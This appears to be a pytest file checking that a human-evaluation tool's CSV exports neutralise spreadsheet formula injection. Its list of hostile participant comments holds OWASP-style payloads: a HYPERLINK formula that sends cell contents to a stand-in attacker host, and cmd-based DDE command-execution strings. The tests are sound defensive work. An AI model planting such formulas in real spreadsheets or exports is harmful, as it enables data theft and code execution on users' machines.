"""CSV formula injection: a participant's comment or an output that a spreadsheet would run as a formula is
neutralised (a leading ``'``, OWASP's rule) in ``/admin/export.csv``, in ``humeval export -f csv`` and in the batch
CSV, read here with a CSV reader; humeval's own readers give the text back as it was typed."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pytest

from humeval import init_study, run
from humeval.files import FORMULA_STARTS
from humeval.judgements import read_judgements
from humeval.pipeline import export_batch
from humeval.study import StudyFolder
from tests.cli import humeval
from tests.integration.server.inprocess import ADMIN, InProcess, enter
from tests.integration.server.studies import rendering_study

pytestmark = pytest.mark.timeout(120)

#: what a hostile participant types, one comment per task (OWASP's examples), and two texts left alone
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "'=already quoted"]
LEFT_ALONE = ["-1.5", "a plain comment: =1 inside is harmless"]


def _neutral(text: str) -> str:
    return "'" + text


def test_admin_export_csv_neutralises_formula_comments(tmp_path: Path) -> None:
    comments = HOSTILE + LEFT_ALONE
    study = rendering_study(tmp_path / "s", items=len(comments), comments=True)
    srv = InProcess(study)

    async def body(c: httpx.AsyncClient) -> str:
        for n in range(0, len(comments), 2):
            h = await enter(c, f"P{n}")
            for i, comment in enumerate(comments[n:n + 2], start=n):
                a = (await c.get("/api/v1/next", headers=h)).json()
                r = await c.post("/api/v1/judgements", headers=h, json={
                    "assignment_id": a["assignment_id"], "idempotency_key": f"key-formula-{i:04d}",
                    "values": {"quality": "A"}, "comment": comment, "seconds": 3.5})
                assert r.status_code == 201, r.text
        assert (await c.get(f"/admin?token={ADMIN}", follow_redirects=True)).status_code == 200
        exported = await c.get("/admin/export.csv")
        assert exported.status_code == 200
        return exported.text

    try:
        text = srv.run(body)
    finally:
        srv.close()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["comment"] for r in rows) == sorted([_neutral(t) for t in HOSTILE] + LEFT_ALONE)
    assert {r["seconds"] for r in rows} == {"3.5"} and {r["choice"] for r in rows} == {"A"}  # numbers and answers as they were
    for row in rows:  # no cell of the export starts with a character a spreadsheet runs, but a number
        assert all(v[:1] not in FORMULA_STARTS or v == "-1.5" for v in row.values())

    # the same table through `humeval export -f csv`, read back by humeval: every comment as it was typed
    out = tmp_path / "judgements.csv"
    humeval("export", study.root, "-f", "csv", "-o", out, expect=0)
    with out.open(newline="", encoding="utf-8") as fh:
        assert sorted(r["comment"] for r in csv.DictReader(fh)) == sorted([_neutral(t) for t in HOSTILE] + LEFT_ALONE)
    assert sorted(read_judgements(out)["comment"]) == sorted(comments)


def test_the_batch_csv_neutralises_formula_outputs(tmp_path: Path) -> None:
    root = tmp_path / "s"
    init_study(root, "pairwise", items=6)
    data = root / "data" / "outputs.jsonl"
    rows = [json.loads(line) for line in data.read_text().splitlines()]
    planted = {("item-0001", "baseline"): HOSTILE[0], ("item-0001", "candidate"): "- a bulleted\n- answer",
               ("item-0002", "baseline"): "@SUM(1+1)", ("item-0002", "candidate"): "-1.5"}
    for row in rows:
        row["output"] = planted.get((row["item_id"], row["system"]), row["output"])
        if row["item_id"] == "item-0003":
            row["input"] = "=1+1"
    data.write_text("".join(json.dumps(r) + "\n" for r in rows))
    study = StudyFolder.open(root)
    list(run(study))
    export_batch(study)
    with (root / "results" / "mturk_batch.csv").open(newline="", encoding="utf-8") as fh:
        batch = list(csv.DictReader(fh))
    cells = [v for row in batch for v in row.values()]
    for text in (HOSTILE[0], "- a bulleted\n- answer", "@SUM(1+1)"):
        assert _neutral(text) in cells and text not in cells
    assert "-1.5" in cells  # a plain number stays a number
    assert _neutral("=1+1") in {row["input"] for row in batch}
    assert all(v[:1] not in FORMULA_STARTS or v == "-1.5" for v in cells)
